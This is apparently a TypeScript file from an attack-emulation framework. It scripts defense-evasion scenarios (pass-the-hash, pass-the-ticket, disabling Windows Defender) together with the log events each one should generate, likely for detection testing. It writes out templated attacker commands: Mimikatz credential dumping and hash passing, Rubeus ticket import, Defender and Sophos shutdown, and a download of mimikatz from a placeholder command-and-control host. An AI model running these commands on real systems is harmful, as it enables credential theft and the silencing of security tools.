import { t, v } from "../dsl";
import { trustControls } from "./defense-evasion-trust";

const DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
/** Defender's own configuration (written only by MsMpEng.exe). */
const MP = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender";
const RTP = `${MP}\\Real-Time Protection`;
const EXCLUSIONS = `${MP}\\Exclusions`;

/** Defense evasion, continued: alternate authentication material, trust controls, disabled security tools. */
export const defenseEvasion3 = [
  t("T1550", "Alternate authentication material", "Hashes or tickets used instead of passwords.", [
    // sekurlsa::pth patches the new logon session's credentials and starts the /run process in it.
    v(
      "mimikatz-pth",
      [
        {
          cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{dns}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /run:cmd.exe" exit',
          as: "mk",
          access: ["@lsass", "0x1038"],
          then: [
            {
              id: "l",
              kind: "logon",
              session: "pth",
              user: "@admin",
              logonType: 9,
              authPackage: "Negotiate",
            },
          ],
        },
        { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "mk" },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1550.002",
    "Pass the hash",
    "NTLM hash reuse: Mimikatz sekurlsa::pth (logon type 9 with seclogo) and Impacket-style remote NTLM logons.",
    [
      v(
        "mimikatz-pth",
        [
          {
            cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{domain}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}}" exit',
            access: ["@lsass", "0x1038"],
            then: [
              {
                id: "l",
                kind: "logon",
                session: "pth",
                user: "@admin",
                logonType: 9,
                authPackage: "Negotiate",
              },
            ],
          },
        ],
        { elevated: true },
      ),
      v("ntlm-network", [
        {
          cmd: "{{tools}}\\wmiexec.exe -hashes :{{rand2}}{{rand2}}{{rand2}}{{rand2}} {{domain}}/{{admin}}@{{srvip}}",
          net: [["@server", 445]],
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "pthnet",
              user: "@admin",
              logonType: 3,
              source: "@workstation",
              authPackage: "NTLM",
            },
          ],
        },
      ]),
      v(
        "invoke-thehash",
        [
          {
            ps: "Invoke-SMBExec -Target {{srvip}} -Domain {{domain}} -Username {{admin}} -Hash {{rand2}}{{rand2}}{{rand2}}{{rand2}} -Command 'whoami' -verbose",
            net: [["@server", 445]],
            then: [
              {
                id: "l",
                kind: "logon",
                host: "@server",
                session: "pthsmb",
                user: "@admin",
                logonType: 3,
                source: "@workstation",
                authPackage: "NTLM",
              },
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1550.003", "Pass the ticket", "Kerberos tickets imported with Rubeus ptt or Mimikatz kerberos::ptt.", [
    v("rubeus-ptt", [
      {
        cmd: "{{tools}}\\Rubeus.exe ptt /ticket:{{tmp}}\\{{admin}}.kirbi",
        then: [
          {
            id: "tgs",
            kind: "kerberos.tgs",
            host: "@dc",
            user: "@admin",
            service: "@server",
            source: "@workstation",
          },
        ],
      },
    ]),
    // Opsec form: a sacrificial netonly logon session (type 9) so the imported ticket does not clobber the
    // operator's own, then the ticket passed into that session's LUID.
    v("rubeus-createnetonly", [
      {
        cmd: "{{tools}}\\Rubeus.exe createnetonly /program:C:\\Windows\\System32\\cmd.exe /show",
        as: "rb",
        then: [
          {
            id: "l",
            kind: "logon",
            session: "netonly",
            user: "@user",
            logonType: 9,
            authPackage: "Negotiate",
          },
        ],
      },
      { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "rb", keep: true },
      {
        cmd: "{{tools}}\\Rubeus.exe ptt /luid:0x{{rand}} /ticket:{{tmp}}\\{{admin}}.kirbi",
        then: [
          {
            id: "tgs",
            kind: "kerberos.tgs",
            host: "@dc",
            user: "@admin",
            service: "@server",
            source: "@workstation",
          },
        ],
      },
    ]),
    v("mimikatz-ptt", [
      '{{tools}}\\mimikatz.exe "kerberos::ptt {{tmp}}\\[0;3e7]-2-0-40e10000-{{admin}}@krbtgt-{{dns}}.kirbi" exit',
      "klist",
    ]),
  ]),
  ...trustControls,
  t("T1562", "Impair defenses", "Security tooling weakened before the main action.", [
    // Defender's service writes the value itself (Sysmon 13 from MsMpEng.exe), then logs 5007 and 5001.
    v(
      "set-mppreference",
      [
        {
          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
        },
      ],
      { shell: "ps", elevated: true },
    ),
    // Tamper Protection refuses the change (5013, nothing written); local exclusions are not protected on an
    // unmanaged device, so the operator falls back to excluding the staging folder.
    v(
      "tamper-blocked-exclusion",
      [
        {
          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
          tamper: true,
        },
        { ps: "Get-MpComputerStatus | Select RealTimeProtectionEnabled, IsTamperProtected" },
        {
          ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\{{name}}'",
          defender: [[`${EXCLUSIONS}\\Paths`, "C:\\ProgramData\\{{name}}", "0"]],
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ]),
  t(
    "T1562.001",
    "Disable or modify tools",
    "Defender disabled with Set-MpPreference, exclusions added, services stopped, policy keys set.",
    [
      v(
        "set-mppreference",
        [
          {
            ps: "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true",
            defender: [
              [RTP, "DisableRealtimeMonitoring", "1"],
              [RTP, "DisableBehaviorMonitoring", "1"],
              [RTP, "DisableIOAVProtection", "1"],
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "add-exclusion",
        [
          {
            ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData', $env:TEMP -ExclusionExtension exe,dll",
            defender: [
              [`${EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0"],
              [`${EXCLUSIONS}\\Paths`, "{{tmp}}", "0"],
              [`${EXCLUSIONS}\\Extensions`, "exe", "0"],
              [`${EXCLUSIONS}\\Extensions`, "dll", "0"],
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      // Real-time protection quarantines the freshly downloaded mimikatz (1116/1117); the operator turns it off
      // and fetches the tool again (a sequence DFIR reports show again and again).
      v(
        "quarantined-then-disabled",
        [
          {
            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
            net: [["{{c2}}", 443]],
            files: ["C:\\Users\\Public\\mimikatz.exe"],
            then: [
              {
                id: "av",
                kind: "defender.detection",
                path: "C:\\Users\\Public\\mimikatz.exe",
                threat: "HackTool:Win32/Mimikatz.D",
              },
            ],
          },
          {
            ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
            defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
          },
          {
            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
            net: [["{{c2}}", 443]],
            files: ["C:\\Users\\Public\\mimikatz.exe"],
          },
          {
            cmd: 'C:\\Users\\Public\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            access: ["@lsass", "0x1010"],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      // A policy value written with reg.exe: Defender picks the policy up and logs 5007.
      v(
        "reg-disableantispyware",
        [
          {
            cmd: `reg add "${DEFENDER}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
            reg: [[DEFENDER, "DisableAntiSpyware", "1", "REG_DWORD"]],
            defender: [[DEFENDER, "DisableAntiSpyware", "1"]],
          },
        ],
        { elevated: true },
      ),
      v(
        "sc-stop",
        [
          "sc stop WinDefend",
          "sc config WinDefend start= disabled",
          'net stop "Sophos Endpoint Defense Service" /y',
        ],
        { elevated: true },
      ),
    ],
  ),
];
